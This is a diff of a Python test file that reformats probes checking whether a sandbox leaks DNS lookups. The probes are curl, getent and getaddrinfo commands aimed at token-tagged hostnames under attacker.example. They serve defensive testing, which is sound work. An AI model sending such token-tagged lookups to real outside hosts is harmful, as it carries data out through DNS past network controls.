@@ -29,11 +29,11 @@ def probes(token: str) -> dict[str, str]:
     """Every way a sandbox user gets a name resolved; each name carries ``token`` in a label."""
     return {
         f"leak-{token}-http.attacker.example": f"{CURL} -o /dev/null -w '%{{http_code}}' "
-                                               f"http://leak-{token}-http.attacker.example/",
+        f"http://leak-{token}-http.attacker.example/",
         f"leak-{token}-connect.attacker.example": f"{CURL} -o /dev/null https://leak-{token}-connect.attacker.example/",
         f"leak-{token}-getent.attacker.example": f"getent hosts leak-{token}-getent.attacker.example",
-        f"leak-{token}-gai.attacker.example": "python3 -c \"import socket; "
-                                              f"print(socket.getaddrinfo('leak-{token}-gai.attacker.example', 80))\"",
+        f"leak-{token}-gai.attacker.example": 'python3 -c "import socket; '
+        f"print(socket.getaddrinfo('leak-{token}-gai.attacker.example', 80))\"",
     }
 
 
@@ -89,8 +89,9 @@ def test_ask_is_answered_before_any_lookup(net_home, world):
         asked.append((req.host, any(q["name"] == req.host for q in world.log("dns"))))
         return "allow_once" if req.host == "allowed.test" else "deny"
 
-    with Sandbox.create("container", network=Network(on_unknown="ask"), on_approval=hook, timeout=120,
-                        home=net_home) as sb:
+    with Sandbox.create(
+        "container", network=Network(on_unknown="ask"), on_approval=hook, timeout=120, home=net_home
+    ) as sb:
         run_probes(sb, world, token)
         proxied = [n for n in probes(token) if n.endswith(("-http.attacker.example", "-connect.attacker.example"))]
         assert [h for h, _ in asked] == proxied  # the proxy asked about each; nothing went upstream first
